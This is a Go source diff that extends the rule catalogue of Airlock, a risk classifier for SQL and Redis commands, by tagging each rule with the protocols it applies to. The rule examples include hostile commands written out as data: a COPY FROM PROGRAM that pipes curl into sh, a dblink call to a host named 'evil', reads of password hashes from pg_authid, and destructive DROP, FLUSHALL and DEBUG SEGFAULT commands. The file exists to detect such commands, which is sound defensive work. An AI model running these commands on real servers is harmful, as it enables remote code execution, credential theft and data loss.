@@ -81,66 +81,93 @@ type Info struct {
 	Risk    protocols.Risk
 	Meaning string
 	Example string
+	// Protocols are the protocols whose analyzers can give the rule; nil
+	// means any (a rule about the input itself, such as parse.error). A
+	// rule id keeps its meaning and risk across protocols: an HTTP DELETE
+	// of a collection and an unbounded SQL DELETE are both write.unbounded.
+	Protocols []protocols.Protocol
+}
+
+// Protocol sets for the catalogue below.
+var (
+	sql    = []protocols.Protocol{protocols.Postgres, protocols.MySQL}
+	pg     = []protocols.Protocol{protocols.Postgres}
+	rds    = []protocols.Protocol{protocols.Redis}
+	myRds  = []protocols.Protocol{protocols.MySQL, protocols.Redis}
+	stores = []protocols.Protocol{protocols.Postgres, protocols.MySQL, protocols.Redis}
+)
+
+// AppliesTo reports whether analyzers of protocol p can give the rule.
+func (in Info) AppliesTo(p protocols.Protocol) bool {
+	if in.Protocols == nil {
+		return true
+	}
+	for _, q := range in.Protocols {
+		if q == p {
+			return true
+		}
+	}
+	return false
 }
 
 // catalogue is the single source of truth for rule ids; RULES.md is
 // generated from it (go test ./sqlrisk/rule -run TestRulesDoc -update).
 var catalogue = []Info{
-	{ParseError, protocols.RiskHigh, "The command could not be parsed (or contains bytes the server would read differently, such as NUL). Airlock fails closed instead of guessing.", "SELEC * FROM t"},
-	{ProtocolUnsupported, protocols.RiskHigh, "No analyzer is configured for the command's protocol.", "(a command of an unknown protocol)"},
-	{CommandUnknown, protocols.RiskHigh, "Redis command absent from Airlock's command table (a module command or a typo), or called with the wrong number of arguments.", "FT.DROPINDEX idx"},
-	{StatementUnclassified, protocols.RiskHigh, "A parsed statement type the classifier has no mapping for; fails closed.", "(a statement type added by a newer parser)"},
+	{ParseError, protocols.RiskHigh, "The command could not be parsed (or contains bytes the server would read differently, such as NUL). Airlock fails closed instead of guessing.", "SELEC * FROM t", nil},
+	{ProtocolUnsupported, protocols.RiskHigh, "No analyzer is configured for the command's protocol.", "(a command of an unknown protocol)", nil},
+	{CommandUnknown, protocols.RiskHigh, "Redis command absent from Airlock's command table (a module command or a typo), or called with the wrong number of arguments.", "FT.DROPINDEX idx", rds},
+	{StatementUnclassified, protocols.RiskHigh, "A parsed statement type the classifier has no mapping for; fails closed.", "(a statement type added by a newer parser)", sql},
 
-	{WriteInsert, protocols.RiskLow, "Inserts rows (INSERT, REPLACE … VALUES, INSERT … SELECT, COPY … FROM STDIN).", "INSERT INTO t VALUES (1)"},
-	{WriteUpdate, protocols.RiskLow, "UPDATE whose condition refers to the target's rows and is not a tautology.", "UPDATE t SET a = 1 WHERE id = $1"},
-	{WriteDelete, protocols.RiskLow, "DELETE whose condition refers to the target's rows and is not a tautology.", "DELETE FROM t WHERE id IN (SELECT id FROM old)"},
-	{WriteMerge, protocols.RiskLow, "MERGE whose join condition refers to the target's rows.", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a"},
-	{WriteKey, protocols.RiskLow, "Redis command that writes named keys.", "SET k v"},
+	{WriteInsert, protocols.RiskLow, "Inserts rows (INSERT, REPLACE … VALUES, INSERT … SELECT, COPY … FROM STDIN).", "INSERT INTO t VALUES (1)", sql},
+	{WriteUpdate, protocols.RiskLow, "UPDATE whose condition refers to the target's rows and is not a tautology.", "UPDATE t SET a = 1 WHERE id = $1", sql},
+	{WriteDelete, protocols.RiskLow, "DELETE whose condition refers to the target's rows and is not a tautology.", "DELETE FROM t WHERE id IN (SELECT id FROM old)", sql},
+	{WriteMerge, protocols.RiskLow, "MERGE whose join condition refers to the target's rows.", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", pg},
+	{WriteKey, protocols.RiskLow, "Redis command that writes named keys.", "SET k v", rds},
 
-	{DDLCreate, protocols.RiskMedium, "Creates a table, index, view, sequence, type, schema or database, or a table from a query (CREATE TABLE AS, SELECT INTO).", "CREATE INDEX ON t (a)"},
-	{DDLAlter, protocols.RiskMedium, "Non-destructive ALTER (add a column, set a default, change a type, alter a sequence or a database's options).", "ALTER TABLE t ADD COLUMN b int"},
-	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations, dropping the session's own temporary tables: DROP TEMPORARY TABLE, DROP TABLE pg_temp.x).", "COMMENT ON TABLE t IS 'x'"},
-	{SessionSet, protocols.RiskMedium, "Changes a session setting other than the harmless client set-up ones (client_encoding, application_name, DateStyle, TimeZone, timeouts, SET NAMES, autocommit, user variables are risk none).", "SET search_path = app, public"},
-	{SessionReadWrite, protocols.RiskMedium, "Turns a read-only session default off.", "SET default_transaction_read_only = off"},
-	{LockTable, protocols.RiskMedium, "Takes explicit table locks.", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE"},
-	{MaintenanceRoutine, protocols.RiskMedium, "Routine maintenance that does not block readers (VACUUM, ANALYZE, REINDEX CONCURRENTLY, REFRESH MATERIALIZED VIEW).", "VACUUM ANALYZE t"},
-	{CodeExecute, protocols.RiskMedium, "Runs a statement prepared earlier in the session; its body was classified when it was prepared.", "EXECUTE get_user(1)"},
-	{AdminInspect, protocols.RiskMedium, "Reads server-wide state about other clients (Redis CLIENT LIST, SLOWLOG, ACL LOG).", "CLIENT LIST"},
+	{DDLCreate, protocols.RiskMedium, "Creates a table, index, view, sequence, type, schema or database, or a table from a query (CREATE TABLE AS, SELECT INTO).", "CREATE INDEX ON t (a)", sql},
+	{DDLAlter, protocols.RiskMedium, "Non-destructive ALTER (add a column, set a default, change a type, alter a sequence or a database's options).", "ALTER TABLE t ADD COLUMN b int", sql},
+	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations, dropping the session's own temporary tables: DROP TEMPORARY TABLE, DROP TABLE pg_temp.x).", "COMMENT ON TABLE t IS 'x'", sql},
+	{SessionSet, protocols.RiskMedium, "Changes a session setting other than the harmless client set-up ones (client_encoding, application_name, DateStyle, TimeZone, timeouts, SET NAMES, autocommit, user variables are risk none).", "SET search_path = app, public", sql},
+	{SessionReadWrite, protocols.RiskMedium, "Turns a read-only session default off.", "SET default_transaction_read_only = off", sql},
+	{LockTable, protocols.RiskMedium, "Takes explicit table locks.", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", sql},
+	{MaintenanceRoutine, protocols.RiskMedium, "Routine maintenance that does not block readers (VACUUM, ANALYZE, REINDEX CONCURRENTLY, REFRESH MATERIALIZED VIEW).", "VACUUM ANALYZE t", sql},
+	{CodeExecute, protocols.RiskMedium, "Runs a statement prepared earlier in the session; its body was classified when it was prepared.", "EXECUTE get_user(1)", sql},
+	{AdminInspect, protocols.RiskMedium, "Reads server-wide state about other clients (Redis CLIENT LIST, SLOWLOG, ACL LOG).", "CLIENT LIST", rds},
 
-	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, trigger, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE"},
-	{SchemaTruncate, protocols.RiskHigh, "Empties tables (TRUNCATE, ALTER TABLE … TRUNCATE PARTITION).", "TRUNCATE users"},
-	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE, DISCARD TABLESPACE, ENGINE=BLACKHOLE.", "ALTER TABLE users DROP COLUMN email"},
-	{SchemaRename, protocols.RiskHigh, "Renames or moves an object (RENAME TABLE, ALTER … RENAME, ALTER … SET SCHEMA).", "ALTER TABLE users RENAME TO users_old"},
+	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, trigger, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE", sql},
+	{SchemaTruncate, protocols.RiskHigh, "Empties tables (TRUNCATE, ALTER TABLE … TRUNCATE PARTITION).", "TRUNCATE users", sql},
+	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE, DISCARD TABLESPACE, ENGINE=BLACKHOLE.", "ALTER TABLE users DROP COLUMN email", sql},
+	{SchemaRename, protocols.RiskHigh, "Renames or moves an object (RENAME TABLE, ALTER … RENAME, ALTER … SET SCHEMA).", "ALTER TABLE users RENAME TO users_old", sql},
 
-	{WriteUnbounded, protocols.RiskHigh, "UPDATE, DELETE, MERGE or REPLACE … SELECT that can touch every row: no WHERE, a WHERE that refers to no column of the target (1=1, true, 'a'='a', NOT false, uncorrelated EXISTS), or a tautology (id = id, x OR NOT x, x IS NULL OR x IS NOT NULL, x LIKE '%'), wherever the statement hides (CTE, rule action, function body).", "WITH d AS (DELETE FROM users WHERE 1=1 RETURNING *) SELECT count(*) FROM d"},
+	{WriteUnbounded, protocols.RiskHigh, "UPDATE, DELETE, MERGE or REPLACE … SELECT that can touch every row: no WHERE, a WHERE that refers to no column of the target (1=1, true, 'a'='a', NOT false, uncorrelated EXISTS), or a tautology (id = id, x OR NOT x, x IS NULL OR x IS NOT NULL, x LIKE '%'), wherever the statement hides (CTE, rule action, function body).", "WITH d AS (DELETE FROM users WHERE 1=1 RETURNING *) SELECT count(*) FROM d", sql},
 
-	{PrivilegeGrant, protocols.RiskHigh, "GRANT or REVOKE privileges or role membership, ALTER DEFAULT PRIVILEGES.", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app"},
-	{PrivilegeRole, protocols.RiskHigh, "Creates, alters, renames or drops a role or user, sets a password, transfers ownership (ALTER … OWNER TO, REASSIGN OWNED), Redis ACL SETUSER/DELUSER.", "ALTER ROLE app SUPERUSER"},
-	{PrivilegeSetRole, protocols.RiskHigh, "Switches the session's identity: SET ROLE, SET SESSION AUTHORIZATION, set_config('role', …), MySQL SET ROLE / SET DEFAULT ROLE.", "SELECT set_config('role', 'postgres', false)"},
-	{PrivilegePolicy, protocols.RiskHigh, "Creates, alters or drops row-level security policies or switches row security on a table.", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY"},
-	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, index maintenance (DISABLE KEYS), replication or audit logging for the session, a statement (SET_VAR hint) or a table.", "SET session_replication_role = replica"},
-	{ReadCredentials, protocols.RiskHigh, "Reads stored credentials or password hashes (pg_authid, pg_shadow, pg_user_mappings, mysql.user, SHOW CREATE USER, Redis ACL LIST/GETUSER).", "SELECT rolpassword FROM pg_authid"},
+	{PrivilegeGrant, protocols.RiskHigh, "GRANT or REVOKE privileges or role membership, ALTER DEFAULT PRIVILEGES.", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app", sql},
+	{PrivilegeRole, protocols.RiskHigh, "Creates, alters, renames or drops a role or user, sets a password, transfers ownership (ALTER … OWNER TO, REASSIGN OWNED), Redis ACL SETUSER/DELUSER.", "ALTER ROLE app SUPERUSER", stores},
+	{PrivilegeSetRole, protocols.RiskHigh, "Switches the session's identity: SET ROLE, SET SESSION AUTHORIZATION, set_config('role', …), MySQL SET ROLE / SET DEFAULT ROLE.", "SELECT set_config('role', 'postgres', false)", sql},
+	{PrivilegePolicy, protocols.RiskHigh, "Creates, alters or drops row-level security policies or switches row security on a table.", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY", pg},
+	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, index maintenance (DISABLE KEYS), replication or audit logging for the session, a statement (SET_VAR hint) or a table.", "SET session_replication_role = replica", sql},
+	{ReadCredentials, protocols.RiskHigh, "Reads stored credentials or password hashes (pg_authid, pg_shadow, pg_user_mappings, mysql.user, SHOW CREATE USER, Redis ACL LIST/GETUSER).", "SELECT rolpassword FROM pg_authid", stores},
 
-	{CodeAnonymous, protocols.RiskHigh, "Runs an anonymous code block (DO).", "DO $$ BEGIN PERFORM 1; END $$"},
-	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, SET GLOBAL init_connect, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby). A constant query text is also classified itself.", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')"},
-	{CodeDefine, protocols.RiskHigh, "Defines or changes code that runs later: functions, procedures, triggers, event triggers, rules, extensions, languages, MySQL events, Redis FUNCTION LOAD.", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()"},
-	{CodeCall, protocols.RiskHigh, "Calls a stored procedure whose body Airlock cannot see.", "CALL purge_all()"},
-	{CodeScript, protocols.RiskHigh, "Runs or manages server-side scripts (Redis EVAL, EVALSHA, EVAL_RO, FCALL, SCRIPT).", "EVAL \"return redis.call('del', KEYS[1])\" 1 k"},
+	{CodeAnonymous, protocols.RiskHigh, "Runs an anonymous code block (DO).", "DO $$ BEGIN PERFORM 1; END $$", pg},
+	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, SET GLOBAL init_connect, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby). A constant query text is also classified itself.", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", sql},
+	{CodeDefine, protocols.RiskHigh, "Defines or changes code that runs later: functions, procedures, triggers, event triggers, rules, extensions, languages, MySQL events, Redis FUNCTION LOAD.", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()", stores},
+	{CodeCall, protocols.RiskHigh, "Calls a stored procedure whose body Airlock cannot see.", "CALL purge_all()", sql},
+	{CodeScript, protocols.RiskHigh, "Runs or manages server-side scripts (Redis EVAL, EVALSHA, EVAL_RO, FCALL, SCRIPT).", "EVAL \"return redis.call('del', KEYS[1])\" 1 k", rds},
 
-	{AdminConfig, protocols.RiskHigh, "Changes or reads server-wide configuration: ALTER SYSTEM, ALTER DATABASE … SET, pg_reload_conf(), superuser-only settings, MySQL SET GLOBAL/PERSIST, Redis CONFIG, MODULE UNLOAD.", "ALTER SYSTEM SET max_connections = 5"},
-	{AdminShutdown, protocols.RiskHigh, "Stops or restarts the server.", "SHUTDOWN"},
-	{AdminKill, protocols.RiskHigh, "Terminates or cancels other sessions (pg_terminate_backend, pg_cancel_backend, KILL, CLIENT KILL).", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"},
-	{AdminReplication, protocols.RiskHigh, "Changes replication or WAL/binlog state: publications, replication slots, pg_switch_wal, backups, CHANGE MASTER, RESET MASTER, PURGE BINARY LOGS, Redis FAILOVER, REPLICAOF NO ONE, CLUSTER changes.", "SELECT pg_drop_replication_slot('s')"},
-	{AdminFlush, protocols.RiskHigh, "Flushes server state or whole keyspaces (MySQL FLUSH and RESET, Redis FLUSHALL, FLUSHDB, SWAPDB).", "FLUSHALL ASYNC"},
-	{AdminMaintenance, protocols.RiskHigh, "Maintenance that takes exclusive locks or heavy I/O: VACUUM FULL, CLUSTER, REINDEX, CHECKPOINT, OPTIMIZE/REPAIR TABLE, Redis SAVE/BGSAVE/BGREWRITEAOF.", "VACUUM FULL users"},
-	{AdminBlocking, protocols.RiskHigh, "Blocks the whole server or all clients (Redis KEYS, CLIENT PAUSE, MySQL LOCK INSTANCE).", "KEYS *"},
-	{AdminMonitor, protocols.RiskHigh, "Streams every other client's commands (Redis MONITOR, SYNC, PSYNC).", "MONITOR"},
-	{AdminDebug, protocols.RiskHigh, "Debugging commands that can crash or stall the server (Redis DEBUG).", "DEBUG SEGFAULT"},
+	{AdminConfig, protocols.RiskHigh, "Changes or reads server-wide configuration: ALTER SYSTEM, ALTER DATABASE … SET, pg_reload_conf(), superuser-only settings, MySQL SET GLOBAL/PERSIST, Redis CONFIG, MODULE UNLOAD.", "ALTER SYSTEM SET max_connections = 5", stores},
+	{AdminShutdown, protocols.RiskHigh, "Stops or restarts the server.", "SHUTDOWN", myRds},
+	{AdminKill, protocols.RiskHigh, "Terminates or cancels other sessions (pg_terminate_backend, pg_cancel_backend, KILL, CLIENT KILL).", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", stores},
+	{AdminReplication, protocols.RiskHigh, "Changes replication or WAL/binlog state: publications, replication slots, pg_switch_wal, backups, CHANGE MASTER, RESET MASTER, PURGE BINARY LOGS, Redis FAILOVER, REPLICAOF NO ONE, CLUSTER changes.", "SELECT pg_drop_replication_slot('s')", stores},
+	{AdminFlush, protocols.RiskHigh, "Flushes server state or whole keyspaces (MySQL FLUSH and RESET, Redis FLUSHALL, FLUSHDB, SWAPDB).", "FLUSHALL ASYNC", myRds},
+	{AdminMaintenance, protocols.RiskHigh, "Maintenance that takes exclusive locks or heavy I/O: VACUUM FULL, CLUSTER, REINDEX, CHECKPOINT, OPTIMIZE/REPAIR TABLE, Redis SAVE/BGSAVE/BGREWRITEAOF.", "VACUUM FULL users", stores},
+	{AdminBlocking, protocols.RiskHigh, "Blocks the whole server or all clients (Redis KEYS, CLIENT PAUSE, MySQL LOCK INSTANCE).", "KEYS *", myRds},
+	{AdminMonitor, protocols.RiskHigh, "Streams every other client's commands (Redis MONITOR, SYNC, PSYNC).", "MONITOR", rds},
+	{AdminDebug, protocols.RiskHigh, "Debugging commands that can crash or stall the server (Redis DEBUG).", "DEBUG SEGFAULT", rds},
 
-	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, GRANT pg_read/write_server_files, log_directory and other path settings, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, SET GLOBAL general_log_file and other *_file/*_dir variables, DATA/INDEX DIRECTORY, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'"},
-	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, archive_command and other command settings, GRANT pg_execute_server_program, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'"},
-	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, primary_conninfo, MySQL CREATE SERVER, FEDERATED/CONNECT engines, CLONE, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')"},
-	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, *_preload_libraries and dynamic_library_path settings, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'"},
+	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, GRANT pg_read/write_server_files, log_directory and other path settings, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, SET GLOBAL general_log_file and other *_file/*_dir variables, DATA/INDEX DIRECTORY, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'", stores},
+	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, archive_command and other command settings, GRANT pg_execute_server_program, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'", sql},
+	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, primary_conninfo, MySQL CREATE SERVER, FEDERATED/CONNECT engines, CLONE, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')", stores},
+	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, *_preload_libraries and dynamic_library_path settings, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'", stores},
 }
 
 var byID = func() map[string]Info {
@@ -164,18 +191,6 @@ func RiskOf(id string) protocols.Risk {
 		return in.Risk
 	}
 	return protocols.RiskHigh
-}
-
-// All returns the catalogue sorted by risk (worst first), then by id.
-func All() []Info {
-	out := append([]Info(nil), catalogue...)
-	sort.SliceStable(out, func(i, j int) bool {
-		if out[i].Risk != out[j].Risk {
-			return out[i].Risk > out[j].Risk
-		}
-		return out[i].ID < out[j].ID
-	})
-	return out
 }
 
 // IDs returns every rule id, sorted.
